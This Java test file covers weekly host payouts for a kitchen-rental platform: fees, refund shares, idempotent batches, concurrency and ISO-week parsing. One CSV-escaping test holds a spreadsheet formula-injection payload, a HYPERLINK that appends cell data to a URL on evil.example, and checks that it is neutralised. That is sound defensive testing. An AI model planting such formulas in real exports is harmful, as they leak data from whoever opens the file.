package com.hearth.billing;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.hearth.billing.Payouts.BadWeek;
import com.hearth.billing.Payouts.WeekNotOver;
import com.hearth.engine.kitchen.PriceBreakdown;
import com.hearth.engine.kitchen.RefundSplit;
import com.hearth.projections.PaymentRows;
import com.hearth.projections.PaymentRows.BookingRow;
import com.hearth.projections.ReadModelDatabase;
import com.hearth.projections.SqlDialect;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Callable;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Weekly payouts over rows written straight into the read tables, on H2 and on PostgreSQL. */
class PayoutsTest {

  /** 2026-W48 runs from Monday 2026-11-23T00:00Z to Monday 2026-11-30T00:00Z. */
  static final String W48 = "2026-W48";

  static final Instant W48_START = Instant.parse("2026-11-23T00:00:00Z");
  static final Instant W48_END = Instant.parse("2026-11-30T00:00:00Z");
  static final Instant MID_W48 = Instant.parse("2026-11-26T15:00:00Z");
  static final Instant MID_W49 = Instant.parse("2026-12-03T15:00:00Z");
  static final Instant AFTER_W48 = Instant.parse("2026-12-01T09:00:00Z");
  static final Instant AFTER_W49 = Instant.parse("2026-12-08T09:00:00Z");

  /*
   * Prices of one hour with the 15 % platform fee, worked out by hand (half-up rounding):
   *   USD_40:    subtotal 4000, fee 4000 * 15 % = 600, no tax, total 4000, host 4000 - 600 = 3400.
   *   USD_TAXED: subtotal 9000, fee 1350, tax 9000 * 8.88 % = 799.2 -> 799, total 9799, host 7650.
   *   EUR_25:    subtotal 2500, fee 375, no tax, total 2500, host 2125.
   */
  static final PriceBreakdown USD_40 = new PriceBreakdown(4000, 600, 0, 4000, 3400, "USD");
  static final PriceBreakdown USD_TAXED = new PriceBreakdown(9000, 1350, 799, 9799, 7650, "USD");
  static final PriceBreakdown EUR_25 = new PriceBreakdown(2500, 375, 0, 2500, 2125, "EUR");

  /*
   * Refund shares, each part in proportion to what the party got of the total, host and tax
   * rounded half up, the platform the remainder:
   *   of USD_40 (host 3400/4000 = 85 %, no tax): 1000 -> host 850, platform 150; 500 -> 425 + 75;
   *     2000 -> 1700 + 300; 700 -> 595 + 105; 300 -> 255 + 45; 400 -> 340 + 60; 4000 -> 3400 + 600.
   *   of USD_TAXED (host 7650/9799, tax 799/9799):
   *     1000 -> host 7 650 000 / 9799 = 780.69 -> 781; tax 799 000 / 9799 = 81.54 -> 82; platform 1000 - 781 - 82 = 137.
   *     2500 -> host 19 125 000 / 9799 = 1951.73 -> 1952; tax 1 997 500 / 9799 = 203.85 -> 204; platform 344.
   *     100 -> host 765 000 / 9799 = 78.07 -> 78; tax 79 900 / 9799 = 8.15 -> 8; platform 14.
   */
  static RefundSplit ofUsd40(long hostCents, long platformCents) {
    return new RefundSplit(hostCents, platformCents, 0);
  }

  @ParameterizedTest
  @EnumSource(SqlDialect.class)
  void aLineCarriesTheHostsNameAndEmailFromItsNewestKitchenAndKeepsThem(SqlDialect dialect) {
    try (ReadModelDatabase db = ReadModelDatabase.create(dialect)) {
      PaymentRows rows = new PaymentRows(db.dataSource());
      rows.paid(rows.booking("host-a", MID_W48, "COMPLETED", USD_40));
      kitchen(db, "k-old", "host-a", "Ada Old", "old@example.com", "2026-01-01 00:00:00+00");
      kitchen(db, "k-new", "host-a", "Ada Lovelace", "ada@example.com", "2026-02-01 00:00:00+00");

      PayoutBatch batch = new Payouts(db.dataSource()).payoutFor(W48, "admin-1", AFTER_W48);
      assertThat(batch.csv()).contains("host-a,Ada Lovelace,ada@example.com,USD,1,");

      // A later change of contact does not change the batch already made.
      db.execute("UPDATE kitchens SET host_name = 'Someone Else'");
      assertThat(new Payouts(db.dataSource()).payoutFor(W48, "admin-1", AFTER_W48).csv())
          .isEqualTo(batch.csv());
    }
  }

  @ParameterizedTest
  @EnumSource(SqlDialect.class)
  void aHostsProfileNamesItsLineInsteadOfItsTokenClaims(SqlDialect dialect) {
    try (ReadModelDatabase db = ReadModelDatabase.create(dialect)) {
      PaymentRows rows = new PaymentRows(db.dataSource());
      rows.paid(rows.booking("host-a", MID_W48, "COMPLETED", USD_40));
      rows.paid(rows.booking("host-b", MID_W48, "COMPLETED", USD_40));
      kitchen(db, "k-a", "host-a", "Ada From Token", "token@example.com", "2026-02-01 00:00:00+00");
      kitchen(db, "k-b", "host-b", "Bo From Token", "bo@example.com", "2026-02-01 00:00:00+00");
      db.execute(
          "INSERT INTO host_profiles (host_id, legal_name, business_name, contact_email, address, country, updated_at)"
              + " VALUES ('host-a', 'Ada Kitchens Holding LLC', 'Ada Kitchens', 'pay@ada.example', '1 Main St', 'US',"
              + " TIMESTAMP WITH TIME ZONE '2026-03-01 00:00:00+00')");

      String csv = new Payouts(db.dataSource()).payoutFor(W48, "admin-1", AFTER_W48).csv();
      // The profile's legal name and contact e-mail; a host without a profile keeps its token's
      // claims.
      assertThat(csv)
          .contains("host-a,Ada Kitchens Holding LLC,pay@ada.example,USD,1,")
          .contains("host-b,Bo From Token,bo@example.com,USD,1,");
    }
  }

  @ParameterizedTest
  @EnumSource(SqlDialect.class)
  void textThatASpreadsheetWouldRunAsAFormulaIsQuotedButAmountsAreNot(SqlDialect dialect) {
    try (ReadModelDatabase db = ReadModelDatabase.create(dialect)) {
      PaymentRows rows = new PaymentRows(db.dataSource());
      String hyperlink = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Pay\")";
      rows.paid(rows.booking("host-a", MID_W48, "COMPLETED", USD_40));
      kitchen(db, "k-a", "host-a", hyperlink, "@evil.example", "2026-01-01 00:00:00+00");
      rows.paid(rows.booking("host-b", MID_W48, "COMPLETED", USD_40));
      kitchen(db, "k-b", "host-b", "+1", "-2", "2026-01-01 00:00:00+00");
      BookingRow c = rows.paid(rows.booking("-host-c", MID_W48, "COMPLETED", USD_40));
      kitchen(db, "k-c", "-host-c", "@x", "\tx", "2026-01-01 00:00:00+00");
      Payouts payouts = new Payouts(db.dataSource());

      assertThat(payouts.payoutFor(W48, "admin-1", AFTER_W48).csv())
          .isEqualTo(
              Payouts.CSV_HEADER
                  + "\r\n"
                  + "'-host-c,'@x,'\tx,USD,1,4000,600,0,3400\r\n"
                  + "host-a,\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"Pay\"\")\",'@evil.example,USD,1,4000,600,0,3400\r\n"
                  + "host-b,'+1,'-2,USD,1,4000,600,0,3400\r\n");

      // A refund after the payout: the next line is negative, and a negative amount stays a number.
      rows.refund(
          c, "c-late", "PARTIAL", ofUsd40(850, 150), "SUCCEEDED", AFTER_W48.plusSeconds(60));
      assertThat(payouts.payoutFor("2026-W49", "admin-1", AFTER_W49).csv())
          .isEqualTo(Payouts.CSV_HEADER + "\r\n" + "'-host-c,'@x,'\tx,USD,0,0,0,850,-850\r\n");
    }
  }

  @ParameterizedTest
  @EnumSource(SqlDialect.class)
  void aRefundThatFailedAtTheGatewayIsNotTakenOffAndIsGivenBackWhenItWas(SqlDialect dialect) {
    try (ReadModelDatabase db = ReadModelDatabase.create(dialect)) {
      PaymentRows rows = new PaymentRows(db.dataSource());
      Payouts payouts = new Payouts(db.dataSource());
      BookingRow a = rows.paid(rows.booking("host-a", MID_W48, "COMPLETED", USD_40));
      rows.refund(a, "a-bounced", "PARTIAL", ofUsd40(850, 150), "SUCCEEDED", MID_W48);
      failRefund(db, "a-bounced", MID_W48.plusSeconds(60));
      BookingRow b = rows.paid(rows.booking("host-b", MID_W48, "COMPLETED", USD_40));
      rows.refund(b, "b-bounced-later", "PARTIAL", ofUsd40(850, 150), "SUCCEEDED", MID_W48);

      assertThat(payouts.payoutFor(W48, "admin-1", AFTER_W48).lines())
          .containsExactly(
              new PayoutLine("host-a", "USD", 1, 4000, 600, 0, 3400),
              new PayoutLine("host-b", "USD", 1, 4000, 600, 850, 3400 - 850));

      // b's refund fails after it was taken off: the next batch gives the host its share back,
      // once.
      failRefund(db, "b-bounced-later", AFTER_W48.plusSeconds(60));
      assertThat(payouts.payoutFor("2026-W49", "admin-1", AFTER_W49).lines())
          .containsExactly(new PayoutLine("host-b", "USD", 0, 0, 0, -850, 850));
      assertThat(
              payouts.payoutFor("2026-W50", "admin-1", AFTER_W49.plus(Duration.ofDays(7))).lines())
          .isEmpty();
      assertThat(
              db.count(
                  "SELECT SUM(amount_cents) FROM payout_items WHERE booking_id = ?", b.bookingId()))
          .as("over all batches, the host keeps its whole payout")
          .isEqualTo(3400);
    }
  }

  /** What the read model makes of a refund.failed: FAILED, and no share given back. */
  private static void failRefund(ReadModelDatabase db, String refundKey, Instant at) {
    db.execute(
        "UPDATE refunds SET status = 'FAILED', failed_at = TIMESTAMP WITH TIME ZONE '"
            + at.toString().replace('T', ' ').replace("Z", "+00")
            + "', failure_reason = 'refund.failed',"
            + " host_share_cents = 0, platform_share_cents = 0, tax_share_cents = 0 WHERE refund_key = '"
            + refundKey
            + "'");
  }

  private static void kitchen(
      ReadModelDatabase db, String id, String host, String name, String email, String created) {
    db.execute(
        "INSERT INTO kitchens (kitchen_id, host_id, host_name, host_email, name, time_zone, currency,"
            + " hourly_rate_cents, tax_bps, status, slot_minutes, min_duration_minutes, max_duration_minutes,"
            + " min_notice_minutes, horizon_days, buffer_minutes, opening_hours, blackouts, created_at, updated_at)"
            + " VALUES ('"
            + id
            + "', '"
            + host
            + "', '"
            + name
            + "', '"
            + email
            + "', 'K', 'UTC', 'USD', 4000, 0,"
            + " 'PUBLISHED', 30, 60, 720, 60, 180, 0, '{}', '[]', TIMESTAMP WITH TIME ZONE '"
            + created
            + "',"
            + " TIMESTAMP WITH TIME ZONE '"
            + created
            + "')");
  }

  @ParameterizedTest
  @EnumSource(SqlDialect.class)
  void aBatchPaysEachHostItsWeeksBookingsNetOfFeesAndRefundShares(SqlDialect dialect) {
    try (ReadModelDatabase db = ReadModelDatabase.create(dialect)) {
      PaymentRows rows = new PaymentRows(db.dataSource());
      BookingRow a1 = rows.paid(rows.booking("host-a", MID_W48, "COMPLETED", USD_40));
      BookingRow a2 =
          rows.paid(
              rows.booking(
                  "host-a", W48_START, "CONFIRMED", USD_TAXED)); // completion not recorded yet
      BookingRow a3 =
          rows.paid(rows.booking("host-a", W48_END.minusSeconds(1), "COMPLETED", USD_40));
      rows.refund(a3, "a3-partial", "PARTIAL", ofUsd40(850, 150), "SUCCEEDED", MID_W48);
      rows.refund(a3, "a3-rejected", "PARTIAL", ofUsd40(425, 75), "REJECTED", MID_W48);
      BookingRow b1 = rows.paid(rows.booking("host-b", MID_W48, "COMPLETED", EUR_25));
      BookingRow b2 = rows.paid(rows.booking("host-b", MID_W48, "COMPLETED", USD_40));
      // Renter cancelled 30 h ahead: half refunded; the host keeps the rest of its payout.
      BookingRow b3 =
          rows.paid(rows.booking("host-b", MID_W48, "CANCELLED", USD_40, ofUsd40(1700, 300)));
      rows.refund(
          b3,
          "b3-policy",
          "CANCELLATION",
          ofUsd40(1700, 300),
          "SUCCEEDED",
          MID_W48.minus(Duration.ofDays(2)));
      // Not paid out: ends when the week ends, unpaid, refunded late, never confirmed, expired.
      rows.paid(rows.booking("host-a", W48_END, "CONFIRMED", USD_40));
      rows.booking("host-a", MID_W48, "COMPLETED", USD_40);
      rows.payment(
          rows.booking("host-a", MID_W48, "EXPIRED", USD_40),
          "pi_late",
          "SUCCEEDED",
          4000,
          "REFUNDED_LATE",
          MID_W48);
      rows.payment(
          rows.booking("host-a", MID_W48, "CONFIRMED", USD_40),
          "pi_open",
          "REQUIRES_PAYMENT",
          0,
          "NONE",
          MID_W48);
      rows.booking("host-c", MID_W48, "EXPIRED", USD_40);

      PayoutBatch batch = new Payouts(db.dataSource()).payoutFor(W48, "admin-1", AFTER_W48);

      assertThat(batch.created()).isTrue();
      assertThat(batch.weekStart()).isEqualTo(LocalDate.of(2026, 11, 23));
      assertThat(batch.weekEnd()).isEqualTo(LocalDate.of(2026, 11, 30));
      // host-a: a1, a2, a3 = 3400 + 7650 + 3400 = 14450, less a3's refund share 850 = 13600.
      // host-b in USD: b2 + b3 = 3400 + 3400 = 6800, less b3's share 1700 = 5100.
      assertThat(batch.lines())
          .containsExactly(
              new PayoutLine("host-a", "USD", 3, 4000 + 9000 + 4000, 600 + 1350 + 600, 850, 13600),
              new PayoutLine("host-b", "EUR", 1, 2500, 375, 0, 2125),
              new PayoutLine("host-b", "USD", 2, 8000, 1200, 1700, 5100));
      long hostPayouts =
          List.of(a1, a2, a3, b1, b2, b3).stream()
              .mapToLong(b -> b.price().hostPayoutCents())
              .sum();
      assertThat(batch.lines().stream().mapToLong(PayoutLine::payoutCents).sum())
          .isEqualTo(hostPayouts - 850 - 1700);
      assertThat(batch.lines())
          .allSatisfy(
              l ->
                  assertThat(l.payoutCents())
                      .isEqualTo(l.grossCents() - l.feesCents() - l.refundsCents()));
      assertThat(batch.csv())
          .isEqualTo(
              Payouts.CSV_HEADER
                  + "\r\n"
                  + "host-a,,,USD,3,17000,2550,850,13600\r\n"
                  + "host-b,,,EUR,1,2500,375,0,2125\r\n"
                  + "host-b,,,USD,2,8000,1200,1700,5100\r\n");
      // The bookings and the refunds already deducted are recorded, so neither is ever counted
      // again.
      assertThat(
              db.count(
                  "SELECT COUNT(*) FROM payout_items WHERE week = ? AND kind = 'BOOKING'", W48))
          .isEqualTo(6);
      assertThat(
              db.count("SELECT COUNT(*) FROM payout_items WHERE week = ? AND kind = 'REFUND'", W48))
          .isEqualTo(2);
      assertThat(db.count("SELECT SUM(amount_cents) FROM payout_items WHERE week = ?", W48))
          .isEqualTo(db.count("SELECT SUM(payout_cents) FROM payout_lines WHERE week = ?", W48));
    }
  }

  @ParameterizedTest
  @EnumSource(SqlDialect.class)
  void runningItAgainReturnsTheSameBatchByteForByte(SqlDialect dialect) {
    try (ReadModelDatabase db = ReadModelDatabase.create(dialect)) {
      PaymentRows rows = new PaymentRows(db.dataSource());
      rows.paid(rows.booking("host-a", MID_W48, "COMPLETED", USD_40));
      BookingRow b = rows.paid(rows.booking("host-\"b\", Inc.", MID_W48, "COMPLETED", USD_40));
      rows.refund(b, "b-partial", "PARTIAL", ofUsd40(595, 105), "SUCCEEDED", MID_W48);
      Payouts payouts = new Payouts(db.dataSource());
      PayoutBatch first = payouts.payoutFor(W48, "admin-1", AFTER_W48);
      long items = db.count("SELECT COUNT(*) FROM payout_items");

      // Later facts change nothing in a batch once made: a late booking, a new refund.
      BookingRow late = rows.paid(rows.booking("host-a", MID_W48, "COMPLETED", USD_40));
      rows.refund(
          b, "b-second", "PARTIAL", ofUsd40(255, 45), "SUCCEEDED", AFTER_W48.plusSeconds(60));
      PayoutBatch again = payouts.payoutFor(W48, "admin-2", AFTER_W49);

      assertThat(first.created()).isTrue();
      assertThat(again.created()).isFalse();
      assertThat(again.csv().getBytes()).isEqualTo(first.csv().getBytes());
      assertThat(again.createdBy()).isEqualTo("admin-1");
      assertThat(again.createdAt()).isEqualTo(AFTER_W48);
      assertThat(db.count("SELECT COUNT(*) FROM payout_items")).isEqualTo(items);
      assertThat(first.csv()).contains("\r\n\"host-\"\"b\"\", Inc.\",,,USD,1,");
      // What came late is in the next batch: the booking that ended in W48, and the refund's host
      // share.
      PayoutBatch next = payouts.payoutFor("2026-W49", "admin-2", AFTER_W49);
      assertThat(next.lines())
          .extracting(PayoutLine::hostId, PayoutLine::bookings)
          .containsExactly(
              org.assertj.core.groups.Tuple.tuple("host-\"b\", Inc.", 0),
              org.assertj.core.groups.Tuple.tuple("host-a", 1));
      assertThat(
              db.count(
                  "SELECT COUNT(*) FROM payout_items WHERE item_id = ? AND week = '2026-W49'",
                  late.bookingId()))
          .isEqualTo(1);
    }
  }

  @ParameterizedTest
  @EnumSource(SqlDialect.class)
  void aBookingIsNeverInTwoBatches(SqlDialect dialect) throws Exception {
    try (ReadModelDatabase db = ReadModelDatabase.create(dialect)) {
      PaymentRows rows = new PaymentRows(db.dataSource());
      List<BookingRow> bookings = new ArrayList<>();
      for (int i = 0; i < 20; i++) {
        bookings.add(
            rows.paid(
                rows.booking("host-" + (i % 3), MID_W48.plusSeconds(i), "COMPLETED", USD_40)));
        bookings.add(
            rows.paid(
                rows.booking("host-" + (i % 3), MID_W49.plusSeconds(i), "COMPLETED", USD_40)));
      }
      Payouts payouts = new Payouts(db.dataSource());
      // W48 and W49 at once, several times each: W49 would take W48's bookings if W48 were not made
      // yet.
      ExecutorService pool = Executors.newFixedThreadPool(6);
      CountDownLatch go = new CountDownLatch(1);
      List<Future<PayoutBatch>> calls = new ArrayList<>();
      try {
        for (int i = 0; i < 6; i++) {
          String week = i % 2 == 0 ? W48 : "2026-W49";
          Callable<PayoutBatch> call =
              () -> {
                go.await();
                return payouts.payoutFor(week, "admin", AFTER_W49);
              };
          calls.add(pool.submit(call));
        }
        go.countDown();
        List<PayoutBatch> batches = new ArrayList<>();
        for (Future<PayoutBatch> f : calls) batches.add(f.get());
        assertThat(batches.stream().filter(PayoutBatch::created)).hasSize(2);
        for (String week : List.of(W48, "2026-W49"))
          assertThat(
                  batches.stream()
                      .filter(b -> b.week().equals(week))
                      .map(PayoutBatch::csv)
                      .distinct())
              .hasSize(1);
      } finally {
        pool.shutdownNow();
      }
      assertThat(db.count("SELECT COUNT(*) FROM payout_batches")).isEqualTo(2);
      assertThat(db.count("SELECT COUNT(*) FROM payout_items WHERE kind = 'BOOKING'"))
          .isEqualTo(40);
      assertThat(db.count("SELECT COUNT(DISTINCT booking_id) FROM payout_items")).isEqualTo(40);
      assertThat(db.count("SELECT SUM(payout_cents) FROM payout_lines")).isEqualTo(40L * 3400);
      assertThat(
              payouts.payoutFor("2026-W50", "admin", Instant.parse("2026-12-15T00:00:00Z")).lines())
          .isEmpty();
    }
  }

  @ParameterizedTest
  @EnumSource(SqlDialect.class)
  void aRefundAfterThePayoutIsTakenOffTheNextWeeksBatchOnce(SqlDialect dialect) {
    try (ReadModelDatabase db = ReadModelDatabase.create(dialect)) {
      PaymentRows rows = new PaymentRows(db.dataSource());
      BookingRow paidOut = rows.paid(rows.booking("host-a", MID_W48, "COMPLETED", USD_TAXED));
      rows.refund(
          paidOut, "before", "PARTIAL", new RefundSplit(781, 137, 82), "SUCCEEDED", MID_W48);
      rows.paid(rows.booking("host-b", MID_W49, "COMPLETED", USD_40));
      Payouts payouts = new Payouts(db.dataSource());
      PayoutBatch w48 = payouts.payoutFor(W48, "admin", AFTER_W48);
      assertThat(w48.lines())
          .containsExactly(new PayoutLine("host-a", "USD", 1, 9000, 1350, 781, 7650 - 781));

      rows.refund(
          paidOut, "after", "PARTIAL", new RefundSplit(1952, 344, 204), "SUCCEEDED", MID_W49);
      rows.refund(
          paidOut, "in-flight", "PARTIAL", new RefundSplit(78, 14, 8), "REQUESTED", MID_W49);
      PayoutBatch w49 = payouts.payoutFor("2026-W49", "admin", AFTER_W49);

      assertThat(w49.lines())
          .containsExactly(
              new PayoutLine("host-a", "USD", 0, 0, 0, 1952, -1952),
              new PayoutLine("host-b", "USD", 1, 4000, 600, 0, 3400));
      assertThat(
              db.count(
                  "SELECT COUNT(*) FROM payout_items WHERE item_id = 'refund:after' AND week = '2026-W49'"))
          .isEqualTo(1);
      // Nothing is taken off twice; the refund still in flight is taken off once it succeeds.
      rows.execute(
          "UPDATE refunds SET status = 'SUCCEEDED', succeeded_at = ? WHERE refund_key = 'in-flight'",
          AFTER_W49.plusSeconds(60));
      PayoutBatch w50 =
          payouts.payoutFor("2026-W50", "admin", Instant.parse("2026-12-15T00:00:00Z"));
      assertThat(w50.lines()).containsExactly(new PayoutLine("host-a", "USD", 0, 0, 0, 78, -78));
    }
  }

  @ParameterizedTest
  @EnumSource(SqlDialect.class)
  void aBookingWaitsWhileItsRefundIsInFlight(SqlDialect dialect) {
    try (ReadModelDatabase db = ReadModelDatabase.create(dialect)) {
      PaymentRows rows = new PaymentRows(db.dataSource());
      // Cancelled by its host: everything goes back, but the refund was not requested yet.
      BookingRow cancelled =
          rows.paid(rows.booking("host-a", MID_W48, "CANCELLED", USD_40, ofUsd40(3400, 600)));
      BookingRow partial = rows.paid(rows.booking("host-b", MID_W48, "COMPLETED", USD_40));
      rows.refund(partial, "partial", "PARTIAL", ofUsd40(340, 60), "REQUESTED", MID_W48);
      // Cancelled by its renter with under 24 h to go: nothing to refund, the host keeps its
      // payout.
      rows.paid(rows.booking("host-c", MID_W48, "CANCELLED", USD_40));
      Payouts payouts = new Payouts(db.dataSource());

      assertThat(payouts.payoutFor(W48, "admin", AFTER_W48).lines())
          .containsExactly(new PayoutLine("host-c", "USD", 1, 4000, 600, 0, 3400));

      rows.refund(
          cancelled,
          "policy",
          "CANCELLATION",
          ofUsd40(3400, 600),
          "SUCCEEDED",
          AFTER_W48.plusSeconds(60));
      rows.execute(
          "UPDATE refunds SET status = 'SUCCEEDED', succeeded_at = ? WHERE refund_key = 'partial'",
          AFTER_W48);
      assertThat(payouts.payoutFor("2026-W49", "admin", AFTER_W49).lines())
          .containsExactly(
              new PayoutLine("host-a", "USD", 1, 4000, 600, 3400, 0),
              new PayoutLine("host-b", "USD", 1, 4000, 600, 340, 3400 - 340));
    }
  }

  /**
   * A booking cancelled with a refund under the policy waits until that refund is requested, while
   * something of its payment is left to refund: another kind of refund does not stand in for it,
   * and a refused one leaves everything to refund. Once other refunds have returned the whole 4000
   * paid, nothing is left and it is paid out: 4000 gross, 600 fee, 3400 host share back, 0 to pay.
   */
  @ParameterizedTest
  @EnumSource(SqlDialect.class)
  void aCancelledBookingWaitsForItsPolicyRefundWhileSomethingIsLeftToRefund(SqlDialect dialect) {
    try (ReadModelDatabase db = ReadModelDatabase.create(dialect)) {
      PaymentRows rows = new PaymentRows(db.dataSource());
      // Renter cancelled 30 h ahead: half of 4000 is due back, split 1700 host + 300 platform.
      BookingRow partlyRefunded =
          rows.paid(rows.booking("host-a", MID_W48, "CANCELLED", USD_40, ofUsd40(1700, 300)));
      rows.refund(partlyRefunded, "a-goodwill", "PARTIAL", ofUsd40(425, 75), "SUCCEEDED", MID_W48);
      BookingRow refused =
          rows.paid(rows.booking("host-b", MID_W48, "CANCELLED", USD_40, ofUsd40(1700, 300)));
      rows.refund(refused, "b-refused", "PARTIAL", 4000, "REJECTED", null, MID_W48);
      BookingRow allBack =
          rows.paid(rows.booking("host-c", MID_W48, "CANCELLED", USD_40, ofUsd40(1700, 300)));
      rows.refund(allBack, "c-everything", "PARTIAL", ofUsd40(3400, 600), "SUCCEEDED", MID_W48);

      assertThat(new Payouts(db.dataSource()).payoutFor(W48, "admin", AFTER_W48).lines())
          .containsExactly(new PayoutLine("host-c", "USD", 1, 4000, 600, 3400, 0));
    }
  }

  @Test
  void aWeekIsRefusedUntilItHasEnded() {
    Payouts payouts = new Payouts(null); // refused before any database is touched
    assertThatThrownBy(() -> payouts.payoutFor(W48, "admin", MID_W48))
        .isInstanceOf(WeekNotOver.class)
        .hasMessageContaining("2026-11-30T00:00:00Z");
    assertThatThrownBy(() -> payouts.payoutFor(W48, "admin", W48_END.minusMillis(1)))
        .isInstanceOf(WeekNotOver.class);
    assertThatThrownBy(() -> payouts.payoutFor("2027-W01", "admin", AFTER_W48))
        .isInstanceOf(WeekNotOver.class);
  }

  @ParameterizedTest
  @EnumSource(SqlDialect.class)
  void aWeekCanBePaidOutTheMomentItEnds(SqlDialect dialect) {
    try (ReadModelDatabase db = ReadModelDatabase.create(dialect)) {
      PayoutBatch batch = new Payouts(db.dataSource()).payoutFor(W48, "admin", W48_END);
      assertThat(batch.lines()).isEmpty();
      assertThat(batch.csv()).isEqualTo(Payouts.CSV_HEADER + "\r\n");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "2026-48",
        "2026W48",
        "2026-w48",
        " 2026-W48",
        "2026-W48 ",
        "2026-W4",
        "2026-W00",
        "2026-W54",
        "2025-W53",
        "1999-W10",
        "20266-W01",
        "2026-W4８"
      })
  void aWeekThatIsNotAnIsoWeekIsRefused(String week) {
    assertThatThrownBy(() -> new Payouts(null).payoutFor(week, "admin", AFTER_W49))
        .isInstanceOf(BadWeek.class);
  }

  @Test
  void isoWeeksStartOnMondayInUtc() {
    assertThat(IsoWeek.parse("2026-W48").start()).isEqualTo(W48_START);
    assertThat(IsoWeek.parse("2026-W48").end()).isEqualTo(W48_END);
    assertThat(IsoWeek.parse("2026-W53").monday())
        .isEqualTo(LocalDate.of(2026, 12, 28)); // 2026 has 53 weeks
    assertThat(IsoWeek.parse("2027-W01").monday()).isEqualTo(LocalDate.of(2027, 1, 4));
    assertThat(IsoWeek.parse("2026-W01").monday()).isEqualTo(LocalDate.of(2025, 12, 29));
    assertThatThrownBy(() -> IsoWeek.parse(null)).isInstanceOf(BadWeek.class);
  }
}
